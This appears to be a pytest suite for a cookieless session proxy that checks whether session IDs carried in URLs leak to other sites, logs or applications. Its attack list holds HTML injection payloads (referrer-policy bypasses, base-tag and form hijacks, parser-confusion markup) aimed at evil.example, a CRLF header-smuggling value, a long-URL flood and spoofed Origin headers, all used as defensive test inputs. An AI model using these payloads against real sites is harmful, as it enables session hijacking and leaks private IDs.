"""Sites with sessions in the URL under attack: by markup in their pages, by other sites, by other clients, by applications.

What another site learns is judged in a real Chromium, whose opinion counts: its page says where it is and who sent the visitor. No
proxy can clean that. The rest is said and heard byte by byte.
"""

import re
import socket
import sqlite3
import threading
from collections.abc import Iterator
from contextlib import closing
from pathlib import Path
from typing import NamedTuple
from urllib.parse import unquote_to_bytes

import pytest
from playwright.sync_api import Page

from rig.clients import RawAnswer
from rig.messages import Answer, Received
from rig.opened import Opened, opened_browser
from rig.origin import Origin
from rig.process import Proxy, eventually
from rig.shared import Pair, shared_pair

CARRIERS = ("path", "query", "matrix")
RULES = "cookieless:\n" + "".join(
    f"  - {{match: {{host: {carrier}.example}}, mode: uri, carrier: {carrier}, script: false}}\n"
    f"  - {{match: {{host: {carrier}.script.example}}, mode: uri, carrier: {carrier}}}\n"
    for carrier in CARRIERS
)
ID = re.compile(rb"(?:\(s\(|sid=)([a-z0-5]{24})", re.IGNORECASE)
PATIENCE_MS = 10_000
CLICK = (
    "node => { setTimeout(() => node.dispatchEvent(new MouseEvent('click', {bubbles: true, cancelable: true})), 0) }"
)
TELLS = b"Referrer-Policy: unsafe-url"
OUT = b'<a id=go href="http://evil.example/">x</a>'
TO_TOP = OUT.replace(b"id=go", b"id=go target=_top")
LEAKY_META = b"<meta name=referrer content=unsafe-url>"
EVIL_BASE = b'<base href="http://evil.example/">'
LINK = b'<a id=go href="/x">x</a>'
FORM = b'<form action="/s"><button id=go>x</button></form>'
HTML = b"<!DOCTYPE html><title>t</title>"
LATIN = b"<!DOCTYPE html><meta charset=windows-1252>"
AS_HTML = b"Content-Type: text/html"
AS_XHTML = b"Content-Type: application/xhtml+xml"
XHTML = (
    b'<!DOCTYPE html PUBLIC "-//W3C//DTD XHTML 1.0 Strict//EN" "http://www.w3.org/TR/xhtml1/DTD/xhtml1-strict.dtd">'
    b'<html xmlns="http://www.w3.org/1999/xhtml"><head><title>t</title></head><body>%s</body></html>'
)


class Attack(NamedTuple):
    """What somebody puts into a page who may write a part of it."""

    name: str
    body: bytes
    host: str = "path.example"
    line: bytes = b"Content-Type: text/html; charset=utf-8"
    in_frame: bool = False
    scheme: str = "http"


ATTACKS = [
    Attack("policy of a link", HTML + b'<a id=go referrerpolicy="unsafe&#45;url" href="http://evil.example/">x</a>'),
    Attack("policy of the page", HTML + b'<meta name="referre&#114;" content="unsafe&#45;url">' + OUT),
    Attack("policy in a list", HTML + b'<meta name=REFERRER content=" bogus, UNSAFE-URL">' + OUT),
    Attack("policy in a long tag", HTML + b'<meta x="' + b"x" * 70_000 + b'" name=referrer content=unsafe-url>' + OUT),
    Attack("policy in srcdoc", HTML + b"<iframe srcdoc='" + LEAKY_META + TO_TOP + b"'></iframe>", in_frame=True),
    Attack("policy in a select", HTML + b"<select><xmp></select>" + LEAKY_META + b"</xmp>" + OUT),
    Attack("policy in annotation-xml", HTML + b"<math><annotation-xml foo=html><style>" + LEAKY_META + b"</style></math>" + OUT),
    Attack("policy in mglyph", HTML + b"<math><mi><mglyph><style>" + LEAKY_META + b"</style></mglyph></mi></math>" + OUT),
    Attack("policy in CDATA", HTML + b"<svg><desc><![CDATA[>" + LEAKY_META + b"]]></desc></svg>" + OUT),
    Attack("policy of a redirect", HTML + b'<a id=go href="/out">x</a>'),
    Attack("policy of a page of two types", HTML + OUT, line=b"Content-Type: text/html, text/html\r\n" + TELLS),
    Attack("policy of a page without type", HTML + OUT, line=b"Content-Type: \r\n" + TELLS),
    Attack("refresh with a quote", HTML + b'<meta http-equiv=refresh content="0;url=&#39;//evil.example/">', "query.example"),
    Attack("refresh with entities", HTML + b'<meta http-equiv=refresh content="0;&#117;rl=//evil.example/">', "matrix.example"),
    Attack("base in noscript", HTML + b"<noscript><base href=/></noscript>" + EVIL_BASE + LINK, "path.script.example"),
    Attack("base in a template", HTML + b"<template><base href=/></template>" + EVIL_BASE + LINK, "query.example"),
    Attack("base in SVG", HTML + b'<svg><base href="/"></base></svg>' + EVIL_BASE + LINK, "matrix.example"),
    Attack("base behind a link", HTML + LINK + EVIL_BASE),
    Attack("base behind a link, with our script", HTML + LINK + EVIL_BASE, "query.script.example"),
    Attack("base behind a form", HTML + FORM + EVIL_BASE, "query.example"),
    Attack("base and an odd action", HTML + EVIL_BASE + b'<form action="\x0b"><button id=go>x</button></form>', "query.example"),
    Attack("form around a form", HTML + b'<form action="http://evil.example/">' + FORM, "query.example"),
    Attack("form in a table", HTML + b'<table><form action="http://evil.example/"></table>' + FORM, "query.script.example"),
    Attack("other action of a button", HTML + FORM.replace(b"id=go", b"id=go formaction=http://evil.example/"), "query.example"),
    Attack("entities of XHTML", XHTML % b'<a id="go" href="&sol;&sol;evil.example/">x</a>', "query.example", AS_XHTML),
    Attack("host in another charset", LATIN + b'<a id=go href="http://qu\xc2\xadery.example/">x</a>', "query.example", AS_HTML),
    Attack("base without TLS", HTML + b'<base href="http://path.example/">' + LINK, scheme="https"),
]  # fmt: skip


@pytest.fixture(scope="module")
def opened(certificate: Path, confdir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Opened]:
    with opened_browser(certificate, confdir, tmp_path_factory.mktemp("opened"), RULES) as both:
        yield both


def prepare(origin: Origin, attack: Attack) -> None:
    """A page that has the id in its URL, the attacked one, and other sites."""
    origin.answers.clear()
    origin.answers["/start"] = Answer([], HTML + b'<a id=go href="/page">x</a>', close=True)
    origin.answers["/page"] = Answer(attack.line.split(b"\r\n"), attack.body, close=True)
    origin.answers["/out"] = Answer([b"Location: http://evil.example/", TELLS], status=302, close=True)
    origin.answers["*"] = Answer([], HTML + b"there", close=True)


def go(page: Page, in_frame: bool = False) -> None:
    """Click, wherever it leads."""
    where = page.frame_locator("iframe") if in_frame else page
    with page.expect_navigation():
        where.locator("#go").evaluate(CLICK)


def attacked(page: Page, attack: Attack) -> None:
    """Fall for it."""
    page.set_default_timeout(PATIENCE_MS)
    page.goto(f"{attack.scheme}://{attack.host}/start")
    go(page)
    if b"refresh" in attack.body:
        page.wait_for_url("http://evil.example/**")
        return
    go(page, attack.in_frame)


@pytest.mark.browser
@pytest.mark.parametrize("attack", ATTACKS, ids=lambda attack: attack.name)
def test_no_other_site_learns_an_id(opened: Opened, attack: Attack) -> None:
    prepare(opened.origin, attack)
    page = opened.context.pages[0]
    attacked(page, attack)
    if not page.url.startswith(f"{attack.scheme}://{attack.host}/"):
        said = page.evaluate("location.href + ' ' + document.referrer")
        assert not ID.search(unquote_to_bytes(said)), said


# -- said byte by byte -----------------------------------------------------------------------------------------------------

HOME = "path.example"
SCRIPT_HOME = "path.script.example"
PAGE = b'<a href="/next">next</a>'
ENDPOINT = "/.cookieproxy/cookies"
OLD_BROWSER = "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"


@pytest.fixture(scope="module")
def pair(certificate: Path, confdir: Path, tmp_path_factory: pytest.TempPathFactory) -> Iterator[Pair]:
    with shared_pair(certificate, confdir, tmp_path_factory.mktemp("attacks"), RULES) as pair:
        yield pair


@pytest.fixture(autouse=True)
def _fresh(request: pytest.FixtureRequest) -> None:
    if "pair" in request.fixturenames:
        one: Pair = request.getfixturevalue("pair")
        one.origin.answers.clear()
        one.origin.received.clear()
        one.origin.answers["*"] = Answer([], PAGE)


def ask(pair: Pair, url: str, *lines: str, agent: str = "agent/1", body: str | None = None) -> RawAnswer:
    """One request of curl's."""
    data = () if body is None else ("--data-binary", body)
    fields = [part for line in lines for part in ("-H", line)]
    return pair.proxy.curl(f"http://{url}", "-A", agent, *fields, *data)


def begun(pair: Pair, host: str = HOME, agent: str = "agent/1") -> str:
    """The id of a new session."""
    found = ID.search(ask(pair, f"{host}/", agent=agent).body)
    assert found
    return found[1].decode()


def last(pair: Pair, path: str) -> Received:
    """What the application got there."""
    return pair.origin.at(path)[-1]


def test_no_script_puts_a_line_into_a_request(pair: Pair) -> None:
    one = begun(pair, SCRIPT_HOME, OLD_BROWSER)
    fields = (f"X-Cookie-Proxy: {one}", "X-Cookie-Proxy-Path: /", "X-Cookie-Proxy-Set: a=b%0D%0AX-Put-In:%201")
    assert ask(pair, SCRIPT_HOME + ENDPOINT, *fields, agent=OLD_BROWSER).status == 200
    ask(pair, f"{SCRIPT_HOME}/(S({one}))/seen", agent=OLD_BROWSER)
    assert b"X-Put-In" not in last(pair, "/seen").head


def test_whoever_had_the_id_before_the_login_does_not_get_the_one_after_it(pair: Pair) -> None:
    values = iter((b"a" * 26, b"b" * 26))
    pair.origin.answers["/login"] = lambda request: Answer([b"Set-Cookie: PHPSESSID=" + next(values)], PAGE)
    known = begun(pair)
    ask(pair, f"{HOME}/(S({known}))/login")
    fresh = ID.search(ask(pair, f"{HOME}/(S({known}))/login").body)
    assert fresh
    assert fresh[1] != known.encode()
    answer = ask(pair, f"{HOME}/(S({known}))/poll")
    assert fresh[1] not in answer.head + answer.body
    assert b"b" * 26 not in last(pair, "/poll").head


def test_no_application_tells_the_page_script_an_id(pair: Pair) -> None:
    chosen = b"a" * 24
    pair.origin.answers["/api"] = Answer([b"X-Cookie-Proxy-Session: " + chosen, b"Content-Type: text/plain"])
    assert chosen not in ask(pair, f"{SCRIPT_HOME}/(S({begun(pair, SCRIPT_HOME)}))/api").head


@pytest.mark.parametrize("charset", [b"bz2", b"zlib", b"hex", b"uu", b"idna", b"utf-7", b"\xe9"])
def test_no_charset_breaks_a_redirect(pair: Pair, charset: bytes) -> None:
    lines = [b"Location: //\xe9.example/", b"Content-Type: text/html; charset=" + charset]
    pair.origin.answers["/out"] = Answer(lines, b'<a href="//\xe9.example/">', status=302)
    answer = ask(pair, f"{HOME}/(S({begun(pair)}))/out")
    assert answer.all(b"location") == [b"//\xe9.example/"]
    assert "Traceback" not in pair.proxy.log()


def stored(pair: Pair) -> str:
    """All that is in the store, as text."""
    with closing(sqlite3.connect(f"file:{pair.proxy.store_path}?mode=ro", uri=True)) as store:
        names = [name for (name,) in store.execute("SELECT name FROM sqlite_master WHERE type = 'table'")]
        return "\n".join(str(row) for name in names for row in store.execute(f"SELECT * FROM {name}"))


def test_no_id_is_logged_or_recorded(pair: Pair) -> None:
    one = begun(pair)
    ask(pair, f"evil.example/x/(S({one}))/y?u={one}", "Cookie: a=1")
    ask(pair, "evil.example/", f"Cookie: last=http%3A%2F%2Fpath.example/(S({one}))/")
    ask(pair, f"{HOME}/a/(S({one}))/b", "Cookie: a=1")
    ask(pair, f"query.example/(S({one}))/z")
    ask(pair, "end.example/", "Cookie: the=end")
    for _ in eventually():
        if "end.example" in stored(pair):
            break
    assert one not in stored(pair)
    assert one not in pair.proxy.log()


@pytest.mark.parametrize("piece", [b"/(S(abcdefghijklmnopqrstuvw5))", b"/;sid=abcdefghijklmnopqrstuvw5"])
def test_a_target_of_many_ids_holds_nobody_up(pair: Pair, piece: bytes) -> None:
    host = b"path.example" if b"S" in piece else b"matrix.example"
    with socket.create_connection(("127.0.0.1", pair.proxy.port)) as hostile:
        hostile.sendall(b"GET http://" + host + piece * 20_000 + b" HTTP/1.1\r\nHost: " + host + b"\r\n\r\n")
        waits = threading.Thread(target=ask, args=(pair, "other.example/"))
        waits.start()
        waits.join(1.0)
        held_up = waits.is_alive()
        waits.join()
    assert not held_up


OTHERS = [
    "Origin: http://evil.example",
    "Origin: null",
    "Origin: http://path.script.example.evil.example",
    "Sec-Fetch-Site: cross-site",
    "Sec-Fetch-Site: same-site",
    "Origin: http://evil.example@path.script.example",
    "Origin: http://path.script.example:8081",
    "Origin: https://path.script.example",
]


@pytest.mark.parametrize("line", OTHERS)
def test_the_endpoint_answers_no_other_page(pair: Pair, line: str) -> None:
    one = begun(pair, SCRIPT_HOME)
    answer = ask(pair, SCRIPT_HOME + ENDPOINT, f"X-Cookie-Proxy: {one}", line, body="a=b")
    assert answer.status == 403
    assert ID.search(answer.head) is None
    assert not pair.origin.at(ENDPOINT)


def test_the_endpoint_lets_no_other_page_ask(pair: Pair) -> None:
    lines = ("Origin: http://evil.example", "Access-Control-Request-Headers: x-cookie-proxy")
    answer = pair.proxy.curl(f"http://{SCRIPT_HOME}{ENDPOINT}", "-X", "OPTIONS", "-H", lines[0], "-H", lines[1])
    assert answer.status == 403
    assert answer.all(b"access-control-allow-headers") == answer.all(b"access-control-allow-origin") == []


def test_a_restart_forgets_no_id(proxy, origin: Origin) -> None:
    origin.answers["*"] = Answer([], PAGE)
    before: Proxy = proxy(rules=RULES)
    found = ID.search(before.curl(f"http://{HOME}/").body)
    assert found
    assert before.stop() == 0
    page = f"http://{HOME}/(S({found[1].decode()}))/"
    proxy(home=before.home).curl(f"http://evil.example/?u={page}", "-H", f"Referer: {page}", "-L")
    assert all(found[1] not in request.head for request in origin.received)


def test_many_sessions_push_no_id_out_of_sight(pair: Pair) -> None:
    one = begun(pair)
    ask(pair, f"{HOME}/?[1-66]", "Connection: close")
    assert len(pair.origin.at("/")) == 67
    ask(pair, f"evil.example/?u=http://{HOME}/(S({one}))/")
    assert all(one.encode() not in request.head for request in pair.origin.received)
